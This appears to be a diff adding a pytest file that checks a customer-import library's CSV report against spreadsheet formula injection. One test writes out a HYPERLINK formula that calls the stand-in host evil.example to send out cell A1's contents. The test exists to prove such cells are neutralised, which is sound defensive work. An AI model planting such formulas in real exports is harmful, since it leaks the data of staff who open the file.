@@ -1,0 +1,81 @@
+"""Attacks on the issue 21 flows: imports, completion, disabled accounts.
+
+Each test names the SPEC rule it holds the library to (M2, O4, P6, M3, X3).
+"""
+
+from __future__ import annotations
+
+import csv
+
+import attrs
+import pytest
+
+from conftest import FAST_HASHER
+from data.import_csv import BCRYPT
+from echoppe_accounts import App, CustomerImporter, LegacyHasher, bootstrap
+from echoppe_accounts.service_layer.import_records import (
+    ImportedAddress,
+    ImportedCustomer,
+)
+from echoppe_accounts.testing import RecordingMailer
+
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def app(uow_factory, clock, shop_settings) -> App:
+    """The library as a shop wires it, checking bcrypt and phpass hashes."""
+    return bootstrap(
+        uow_factory,
+        RecordingMailer(),
+        attrs.evolve(shop_settings, outbox_key=bytes(32)),
+        clock=clock,
+        hasher=LegacyHasher(FAST_HASHER),
+    )
+
+
+def _customer(ref: str, **fields: object) -> ImportedCustomer:
+    values: dict[str, object] = {
+        "email": "client@exemple.fr",
+        "first_name": "Marie",
+        "last_name": "Curie",
+        "phone": "06 12 34 56 78",
+        "password_hash": BCRYPT["motdepasse"],
+        "language": "fr",
+        "addresses": (
+            ImportedAddress(
+                ref="1",
+                first_name="Marie",
+                last_name="Curie",
+                address1="12 rue des Lilas",
+                postal_code="75011",
+                city="Paris",
+                country="FR",
+            ),
+        ),
+    }
+    values.update(fields)
+    return ImportedCustomer(ref=ref, **values)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_m2_o4_report_cells_never_start_a_spreadsheet_formula(app, tmp_path, start):
+    """M2, O4: the report is opened in a spreadsheet; no cell is a formula.
+
+    A source's customer reference and the names of the fields it drops
+    come from the old shop's data; written back as they are, a cell such
+    as ``=HYPERLINK(...)`` runs when staff open the report (CSV injection).
+    """
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1;"x")'
+    summary = CustomerImporter(app).import_records(
+        [_customer(payload, dropped=(payload,), optin=True)],
+        source="test",
+        report=tmp_path / "rapport.csv",
+        newsletter_wording="v1",
+    )
+    assert summary.report is not None
+    with summary.report.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells
+    assert not [c for c in cells if c.startswith(_FORMULA_STARTS)], rows
